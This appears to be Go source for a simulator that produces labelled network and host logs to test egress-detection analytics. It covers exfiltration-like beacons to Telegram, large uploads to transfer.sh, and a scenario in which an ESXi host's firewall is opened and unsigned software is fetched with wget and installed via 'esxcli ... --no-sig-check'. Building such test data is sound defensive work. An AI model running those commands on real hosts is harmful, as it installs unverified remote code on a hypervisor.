package simulator

import (
	"fmt"
	"net/netip"
	"time"
)

// place is somewhere on the simulated internet.
type place struct {
	name string
	addr netip.AddrPort
}

func somewhere(name, addr string) place { return place{name, netip.MustParseAddrPort(addr)} }

// places are where the traffic goes. The names are real services, so that a
// catalogue knows them; the addresses are documentation ranges.
func places() (p struct {
	cloud, cloud6, cloudLate, cloudTwin, updates, mirror, vendor, messenger, share, downloads place
},
) {
	p.cloud = somewhere("s3.eu-central-1.amazonaws.com", "198.51.100.10:443")
	p.cloud6 = somewhere("s3.eu-central-1.amazonaws.com", "[2001:db8:51::10]:443")
	p.cloudLate = somewhere("s3.eu-central-1.amazonaws.com", "198.51.100.20:443")
	p.cloudTwin = somewhere("s3.eu-central-1.amazonaws.com", "198.51.100.30:443")
	p.updates = somewhere("hostupdate.vmware.com", "203.0.113.130:443")
	p.mirror = somewhere("archive.ubuntu.com", "203.0.113.140:80")
	p.vendor = somewhere("support.broadcom.com", "192.0.2.80:443")
	p.messenger = somewhere("api.telegram.org", "203.0.113.40:443")
	p.share = somewhere("transfer.sh", "203.0.113.60:443")
	p.downloads = somewhere("downloads.example.net", "203.0.113.77:443")
	return p
}

// Uids of the analytics that the stories should raise.
const (
	egressAnalytic   = "egress.unjustified"
	firewallAnalytic = "esxi.httpclient_opened"
)

// stories writes each story that the site has a VM for.
func (sc *script) stories() {
	p := places()
	sc.story(partBeacon, p.messenger, Story{
		ID: "beacon", Title: "an application server calls a messaging service every five minutes",
		Verdict: "unjustified", Reason: "no_role",
	}, sc.beacon)
	sc.story(partUpload, p.share, Story{
		ID: "upload", Title: "a file server uploads gigabytes to a file share",
		Verdict: "unjustified", Reason: "no_role",
	}, sc.upload)
	sc.story(partLate, p.cloudLate, Story{
		ID: "late-backup", Title: "a backup proxy writes to its cloud storage outside its window",
		Verdict: "unjustified", Reason: "window",
	}, sc.lateBackup)
	sc.twins(p.cloudTwin)
	sc.hostFetch(p.downloads)
}

// story tells one whose actor is a VM.
func (sc *script) story(who part, where place, s Story, tell func(*VM, place)) {
	vm := sc.site.cast[who]
	if vm == nil {
		return
	}
	a := sc.count(func() { tell(vm, where) })
	s.VM, s.InstanceUUID, s.Host, s.Address = vm.Name, vm.InstanceUUID, vm.Host, vm.Address
	sc.publish(s, where, a)
}

// count tells something and says what it came to.
func (sc *script) count(tell func()) account {
	a := new(account)
	sc.account = a
	tell()
	sc.account = nil
	return *a
}

func (sc *script) publish(s Story, where place, a account) {
	if s.Analytic == "" {
		s.Analytic = egressAnalytic
	}
	s.Name, s.Destination, s.Port = where.name, where.addr.Addr(), where.addr.Port()
	s.Records, s.BytesOut, s.First, s.Last = a.records, a.bytesOut, a.first, a.last
	sc.truth.Stories = append(sc.truth.Stories, s)
}

// lead is how long before its first connection a client asks for a name: with
// hours sent in seconds, less would let the connection overtake the answer on
// its way through another socket.
const lead = 15 * time.Minute

func (sc *script) beacon(vm *VM, to place) {
	begin := sc.clock(20, 20)
	sc.ask(begin.Add(-lead), vm.Address, to.name, to.addr.Addr())
	beat := 0
	for at := begin; at.Before(sc.end.Add(-10 * time.Minute)); beat++ {
		if beat%6 == 5 {
			sc.ask(at.Add(-time.Second), vm.Address, to.name, to.addr.Addr())
		}
		sc.leave(at, vm, to.addr, sc.some(time.Second, 4*time.Second), 900+sc.rng.Int64N(200), 1500+sc.rng.Int64N(500))
		at = at.Add(sc.some(276*time.Second, 324*time.Second)) // five minutes, 8 % jitter
	}
}

func (sc *script) upload(vm *VM, to place) {
	begin := sc.clock(1, 40)
	sc.ask(begin.Add(-lead), vm.Address, to.name, to.addr.Addr())
	for i := range 12 {
		at := begin.Add(time.Duration(i) * 7 * time.Minute)
		sc.leave(at, vm, to.addr, sc.some(4*time.Minute, 6*time.Minute), 400_000_000+sc.rng.Int64N(500_000_000), 2_000_000)
	}
}

func (sc *script) lateBackup(vm *VM, to place) {
	begin := sc.clock(20, 40)
	sc.ask(begin.Add(-lead), vm.Address, to.name, to.addr.Addr())
	for i := range 6 {
		at := begin.Add(time.Duration(i) * 6 * time.Minute)
		sc.leave(at, vm, to.addr, sc.some(3*time.Minute, 5*time.Minute), 1_000_000_000+sc.rng.Int64N(1_000_000_000), 4_000_000)
	}
}

// twins have one address between them, one of them with the backup role. The
// edge sees their packets, which are within all that the role allows; but
// whose are they?
func (sc *script) twins(to place) {
	twin, clone := sc.site.cast[partTwin], sc.site.cast[partTwinClone]
	if twin == nil || clone == nil {
		return
	}
	begin := sc.clock(23, 10)
	sc.ask(begin.Add(-lead), twin.Address, to.name, to.addr.Addr())
	a := sc.count(func() {
		for i := range 8 {
			f := flow{src: netip.AddrPortFrom(twin.Address, sc.port()), dst: to.addr, proto: "TCP", rule: 1005}
			sc.tell(begin.Add(time.Duration(i)*10*time.Minute), sc.edge, f.atGateway())
		}
	})
	sc.publish(Story{
		ID: "duplicate-address", Title: "two VMs on two hosts have one address: whose connection it is cannot be told",
		Address: twin.Address, Candidates: []string{twin.Name, clone.Name},
		Verdict: "unknown", Reason: "ambiguous",
	}, to, a)
}

// hostFetch is a host that somebody makes fetch software from an address that
// no one has approved, by hand in its shell.
func (sc *script) hostFetch(from place) {
	host := sc.site.Hosts[min(2, len(sc.site.Hosts)-1)]
	sender := sc.byHost[host]
	url := "https://" + from.name + "/x86_64/tool.vib"
	begin := sc.clock(2, 30)
	say := func(after time.Duration, say func(*voice) message) {
		at := begin.Add(after)
		sc.tell(at, sender, say(sc.voice(at, sender, host)))
	}
	shell := func(command string) func(*voice) message {
		return func(v *voice) message { return v.shell(command) }
	}
	opening := sc.count(func() {
		say(0, shell("esxcli network firewall ruleset set -e true -r httpClient"))
		say(time.Second, func(v *voice) message {
			return v.vob("netCorrelator", "esx.audit.net.firewall.config.changed",
				"Firewall configuration has changed. Operation 'enable' for rule set httpClient succeeded.")
		})
	})
	sc.publish(Story{
		ID: "firewall-opened", Title: "the same host's firewall is opened for outbound HTTP(S) first",
		Host: host.Name, Address: host.Address, Analytic: firewallAnalytic,
	}, place{}, opening)
	a := sc.count(func() {
		say(40*time.Second, shell("wget -O /tmp/tool.vib "+url))
		say(3*time.Minute, shell("esxcli software vib install -v "+url+" --no-sig-check"))
		say(9*time.Minute, shell("esxcli software profile update -p tool-1.0 -d https://"+from.name+"/index.xml"))
	})
	from.addr = netip.AddrPortFrom(netip.Addr{}, 443) // a URL says no address
	sc.publish(Story{
		ID: "host-fetch", Title: "a host fetches software from an unlisted address by shell",
		Host: host.Name, Address: host.Address,
		Verdict: "unjustified", Reason: "destination",
	}, from, a)
}

// honest writes what has a justification.
func (sc *script) honest() {
	p := places()
	for _, who := range []part{partBackup1, partBackup2} {
		sc.allow(who, p.cloud, byBackup, sc.nightlyBackup)
	}
	if vm := sc.site.cast[partBackup2]; vm != nil && vm.Address6.IsValid() {
		sc.allow(partBackup2, p.cloud6, byBackup, sc.nightlyBackup)
	}
	sc.allow(partPatch, p.updates, byPatch, sc.patchDepot)
	sc.allow(partPatch, p.mirror, byPatch, sc.patchDepot)
	sc.allow(partJump, p.vendor, byAdmins, sc.adminVisit)
	for i := range 20 {
		to := place{fmt.Sprintf("www%d.example.org", i), netip.AddrPortFrom(netip.AddrFrom4([4]byte{192, 0, 2, byte(20 + i)}), 443)}
		sc.allow(partProxy, to, byProxy, sc.browsing)
	}
	sc.patchRun(p.updates)
}

// allow tells of honest egress of a VM, if the site has it.
func (sc *script) allow(who part, where place, by string, tell func(*VM, place)) {
	vm := sc.site.cast[who]
	if vm == nil {
		return
	}
	a := sc.count(func() { tell(vm, where) })
	if a.records == 0 {
		return
	}
	sc.truth.Honest = append(sc.truth.Honest, Honest{
		VM: vm.Name, InstanceUUID: vm.InstanceUUID, Address: vm.Address,
		Destination: where.addr.Addr(), Name: where.name, Port: where.addr.Port(), By: by,
		Records: a.records, BytesOut: a.bytesOut, First: a.first, Last: a.last,
	})
}

// aside tells something that counts for no course of events.
func (sc *script) aside(tell func()) {
	held := sc.account
	sc.account = nil
	tell()
	sc.account = held
}

func (sc *script) nightlyBackup(vm *VM, to place) {
	begin := sc.clock(22, 10)
	sc.ask(begin.Add(-lead), vm.Address, to.name, to.addr.Addr())
	sc.aside(func() { sc.tell(begin, sc.vcenter, sc.voice(begin, sc.vcenter, nil).backupNote("nightly "+vm.Name)) })
	for i := range 10 {
		at := begin.Add(time.Duration(i)*40*time.Minute + sc.some(0, 5*time.Minute))
		sc.leave(at, vm, to.addr, sc.some(10*time.Minute, 30*time.Minute), 2_000_000_000+sc.rng.Int64N(6_000_000_000), 9_000_000)
	}
}

func (sc *script) patchDepot(vm *VM, to place) {
	begin := sc.clock(21, 15)
	sc.ask(begin.Add(-lead), vm.Address, to.name, to.addr.Addr())
	for i := range 8 {
		at := begin.Add(time.Duration(i) * 10 * time.Minute)
		sc.leave(at, vm, to.addr, sc.some(time.Minute, 8*time.Minute), 40_000+sc.rng.Int64N(90_000), 90_000_000+sc.rng.Int64N(600_000_000))
	}
}

func (sc *script) adminVisit(vm *VM, to place) {
	for _, begin := range []time.Time{sc.clock(20, 35), sc.clock(7, 20)} {
		sc.ask(begin.Add(-lead), vm.Address, to.name, to.addr.Addr())
		for i := range 4 {
			sc.leave(begin.Add(time.Duration(i)*3*time.Minute), vm, to.addr, sc.some(10*time.Second, 2*time.Minute), sc.rng.Int64N(90_000), sc.rng.Int64N(9_000_000))
		}
	}
}

func (sc *script) browsing(vm *VM, to place) {
	begin := sc.start.Add(lead + sc.some(0, time.Hour))
	sc.ask(begin.Add(-lead), vm.Address, to.name, to.addr.Addr())
	for at := begin; at.Before(sc.end.Add(-5 * time.Minute)); at = at.Add(sc.some(20*time.Minute, 3*time.Hour)) {
		sc.leave(at, vm, to.addr, sc.some(time.Second, 4*time.Minute), sc.rng.Int64N(60_000), sc.rng.Int64N(4_000_000))
	}
}

// patchRun is vCenter remediating two hosts: its events, their downloads, and
// the audit events at the end.
func (sc *script) patchRun(from place) {
	for i, h := range sc.site.Hosts[:2] {
		begin := sc.clock(21, 30).Add(time.Duration(i) * 35 * time.Minute)
		sc.vcenterSays(begin, "TaskEvent", `VSPHERE.LOCAL\com.vmware.vcIntegrity`, "Task: Remediate entity")
		sc.vcenterSays(begin.Add(time.Minute), "EnteredMaintenanceModeEvent", "", "Host "+h.Name+" in Lab has entered maintenance mode")
		sc.remediate(begin.Add(2*time.Minute), h, from)
		sc.vcenterSays(begin.Add(25*time.Minute), "ExitMaintenanceModeEvent", "", "Host "+h.Name+" in Lab has exited maintenance mode")
	}
	sc.vcenterSays(sc.clock(22, 40), "ScheduledTaskCompletedEvent", `com.vmware.vcIntegrity`, "Scheduled task Monthly remediation completed successfully on Cluster-A in datacenter Lab")
}

func (sc *script) vcenterSays(at time.Time, kind, user, text string) {
	sc.tell(at, sc.vcenter, sc.voice(at, sc.vcenter, nil).event(kind, user, text))
}

func (sc *script) remediate(begin time.Time, h *Host, from place) {
	sender := sc.byHost[h]
	base := "https://" + from.name + "/software/VUM/PRODUCTION/main/esx/vmw/vib20/"
	a := sc.count(func() {
		for i, vib := range []string{"esx-base", "esx-update", "vsan", "lsu-hp-hpsa-plugin", "tools-light"} {
			at := begin.Add(time.Duration(i) * 90 * time.Second)
			name := fmt.Sprintf("VMware_bootbank_%s_%s-1.%s.vib", vib, h.Version, h.Build)
			sc.tell(at, sender, sc.voice(at, sender, h).download(base+vib+"/"+name, name))
		}
	})
	at := begin.Add(20 * time.Minute)
	sc.tell(at, sender, sc.voice(at, sender, h).vob("UserWorldCorrelator", "esx.audit.esximage.software.apply.succeeded",
		"Software image was applied: 5 components installed, 5 removed."))
	sc.truth.Honest = append(sc.truth.Honest, Honest{
		Host: h.Name, Address: h.Address, Name: from.name, Port: from.addr.Port(), By: byHosts,
		Records: a.records, First: a.first, Last: a.last,
	})
}
